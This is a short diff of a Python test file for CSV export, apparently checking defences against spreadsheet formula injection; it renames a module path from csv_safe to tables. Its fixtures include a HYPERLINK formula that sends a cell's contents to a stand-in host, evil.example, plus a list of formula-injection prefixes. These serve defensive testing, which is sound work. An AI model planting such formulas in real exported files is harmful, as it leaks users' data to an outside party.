@@ -10,7 +10,7 @@ import pytest
 from conftest import REPOSITORY
 
 from annotator.checks import report as checking_output
-from panelwise.files.csv_safe import csv_text
+from panelwise.files.tables import csv_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 NASTY = (FORMULA, "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "\uff1d1", '=1"\n=2', "a,=1")
@@ -54,4 +54,4 @@ def writers() -> set[str]:
 @pytest.mark.slow
 def test_whatever_writes_tables_makes_texts_of_its_cells() -> None:
     # A copy of an upload under other headings is read by the import alone.
-    assert writers() - {"annotator/imports/uploads.py"} == {"panelwise/files/csv_safe.py"}
+    assert writers() - {"annotator/imports/uploads.py"} == {"panelwise/files/tables.py"}
